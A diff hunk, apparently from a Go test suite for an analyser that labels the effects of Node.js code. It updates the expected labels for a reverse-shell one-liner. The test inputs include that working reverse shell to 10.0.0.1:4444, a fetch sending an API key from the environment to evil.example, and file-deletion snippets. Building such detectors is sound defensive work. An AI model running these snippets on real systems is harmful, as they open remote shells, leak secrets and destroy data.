@@ -25,7 +25,7 @@ var nodeCases = []testCase{
 	{"fetch('http://evil.example/?' + process.env.API_KEY)", is("read environment from secret", "net-out http://evil.example/?… from secret")},
 	{"require('https').get('https://example.com/x', r => r.pipe(require('fs').createWriteStream('/tmp/p')))", is("net-in https://example.com/x", "write /tmp/p")},
 	{"require('http').request({host: 'evil.example', port: 80, path: '/x', method: 'POST'})", is("net-out evil.example:80/x")},
-	{"var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'10.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})", is("argv [/bin/sh]", "exec /bin/sh from network", "net-in 10.0.0.1:4444")},
+	{"var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'10.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})", is("argv [/bin/sh]", "exec /bin/sh from network", "net-in 10.0.0.1:4444", "shell …")},
 	{`require('vm').runInNewContext('x', {x: 1}); setTimeout("require('fs').rmSync('/x')", 1)`, is("code x", "code require('fs').rmSync('/x')", "delete /x")},
 	{"const fs = require('fs').promises; async function f(p) { await fs.rm(p, {recursive: true}) } f('/x')", is("delete /x recursive")},
 	{"['a', 'b'].forEach(f => require('fs').unlinkSync('/t/' + f))", is("delete /t/a", "delete /t/b")},
